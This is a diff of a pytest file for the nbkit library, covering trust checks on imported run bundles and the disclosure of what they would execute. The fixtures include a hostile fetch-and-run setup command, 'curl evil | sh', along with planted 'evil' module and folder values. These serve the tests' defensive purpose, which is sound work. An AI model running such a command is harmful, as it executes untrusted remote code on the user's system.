@@ -14,7 +14,7 @@ import pytest
 
 import nbkit
 from nbkit.config import ExperimentConfig
-from nbkit.errors import RunError, StoreError
+from nbkit.errors import ConfigError, RunError, StoreError
 from nbkit.launch.run import Run
 from nbkit.launch.trust import permit_run
 from nbkit.store.record import write_json
@@ -160,7 +160,6 @@ def test_who_trusts_a_bundles_study_is_told_what_it_executes(
     assert "  slurm.setup: ['curl evil | sh']\n" in told
 
 
-# Each has finished, so that nothing of it is executed even with trust.
 WAYS = {
     "environment": (
         {"task": "function"},
@@ -215,16 +214,28 @@ def test_what_a_bundle_would_execute_is_refused_and_told_to_who_trusts_it(
     bring, capsys, way
 ):
     fields, entry, told = WAYS[way]
-    run = bring(write_run("finished", entry=entry, **fields))
+    run = bring(write_run(entry=entry, **fields))
 
     with pytest.raises(RunError, match="it was imported from host"):
         run.resume()
     assert capsys.readouterr().out == ""
-    with pytest.raises(RunError, match="has finished"):
-        run.resume(trust=True)
+    permit_run(run.paths, trust=True)
 
     said = capsys.readouterr().out
     assert [part for part in told if f"  {part}" not in said] == []
+
+
+def test_nothing_is_told_of_what_is_refused_in_any_case(bring, capsys):
+    run = bring(write_run("finished"))
+
+    with pytest.raises(RunError, match="has finished"):
+        run.resume(trust=True)
+    with pytest.raises(ConfigError, match="repeats=0"):
+        nbkit.reproduce(run, repeats=0, trust=True)
+    with pytest.raises(ConfigError, match="code='original'"):
+        nbkit.reproduce(run, code="original", trust=True)
+
+    assert capsys.readouterr().out == ""
 
 
 def test_what_a_bundles_configuration_asks_of_slurm_is_not_launched(bring, capsys):
@@ -234,6 +245,10 @@ def test_what_a_bundles_configuration_asks_of_slurm_is_not_launched(bring, capsy
     for use in (nbkit.launch, lambda one: nbkit.Study.create("s", {"a": one})):
         with pytest.raises(RunError, match="it was imported from host"):
             use(config)
+    # Nor in another configuration.
+    for slurm in (config.slurm, config.slurm.replace(timeout_min=5)):
+        with pytest.raises(RunError, match="it was imported from host"):
+            nbkit.launch(ExperimentConfig(engine="slurm", slurm=slurm))
     assert capsys.readouterr().out == ""
     nbkit.Study.create("s", {"a": config}, trust=True)
     assert "  slurm.setup: ['curl evil | sh']\n" in capsys.readouterr().out
@@ -249,7 +264,7 @@ def test_what_a_bundles_configuration_asks_of_slurm_is_not_launched(bring, capsy
 
 
 def test_the_script_that_is_told_is_the_one_that_would_be_executed(bring, capsys):
-    run = write_run("finished", task="script")
+    run = write_run(task="script")
     source = run.paths.source / "modules/evil.py"
     source.parent.mkdir(parents=True, exist_ok=True)
     source.write_text("evil")
@@ -258,8 +273,7 @@ def test_the_script_that_is_told_is_the_one_that_would_be_executed(bring, capsys
     write_json(run.paths.entry, entry)
     run = bring(run)
 
-    with pytest.raises(RunError, match="has finished"):
-        run.resume(trust=True)
+    permit_run(run.paths, trust=True)
 
     sha256 = hashlib.sha256(b"evil").hexdigest()
     told = f"{run.paths.source}/modules/evil.py, sha256 {sha256}"
@@ -267,15 +281,14 @@ def test_the_script_that_is_told_is_the_one_that_would_be_executed(bring, capsys
 
 
 def test_the_working_folder_of_a_bundle_is_told_to_who_trusts_it(bring, capsys):
-    run = write_run("finished", task="function")
+    run = write_run(task="function")
     told = json.loads(run.paths.submission.read_text())
     write_json(run.paths.submission, {**told, "cwd": "/evil/folder"})
     run = bring(run)
 
     with pytest.raises(RunError, match="it was imported from host"):
         run.resume()
-    with pytest.raises(RunError, match="has finished"):
-        run.resume(trust=True)
+    permit_run(run.paths, trust=True)
 
     assert "  working folder: '/evil/folder'\n" in capsys.readouterr().out
 
@@ -351,7 +364,7 @@ def test_a_link_to_a_run_inside_an_imported_one_is_no_way_round_its_mark(bring, 
     mine = nbkit.attach(planted.name)
 
     assert "imported from" in repr(mine)
-    for execute in (lambda: mine.returns, mine.resume):
+    for execute in (lambda: mine.returns, lambda: permit_run(mine.paths, trust=False)):
         with pytest.raises(RunError, match="it was imported from host"):
             execute()
     assert not executed.exists()
@@ -379,7 +392,7 @@ def test_another_users_study_starts_nothing(kept):
 
 
 def test_a_file_that_cannot_be_read_is_named_to_who_trusts_it():
-    run = write_run("finished", task="function")
+    run = write_run(task="function")
     run.paths.entry_pickle.unlink()
     run.paths.entry_pickle.mkdir()
 
